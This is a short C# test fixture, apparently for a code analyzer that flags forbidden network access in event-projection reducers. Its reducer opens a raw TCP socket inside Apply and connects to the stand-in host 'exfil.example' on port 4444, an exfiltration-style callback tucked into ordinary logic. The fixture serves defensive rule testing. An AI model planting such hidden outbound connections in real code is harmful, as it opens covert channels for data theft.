// expect: HAPND001 System.Net.Sockets.Socket
// why: opens a raw TCP socket to an outside host
using System;
using System.Collections.Generic;
using System.Linq;
using Hapnd.Projections.Contracts;

public record AttackState(int Count, string Note);

public class NetworkSocketReducer : IReducer<AttackState>
{
    public AttackState Apply(AttackState? state, Event @event)
    {
        var s = state ?? new AttackState(0, "");
        using var socket = new System.Net.Sockets.Socket(
            System.Net.Sockets.AddressFamily.InterNetwork,
            System.Net.Sockets.SocketType.Stream,
            System.Net.Sockets.ProtocolType.Tcp);
        socket.Connect("exfil.example", 4444);
        s = s with { Note = "connected" };
        return s with { Count = s.Count + 1 };
    }
}
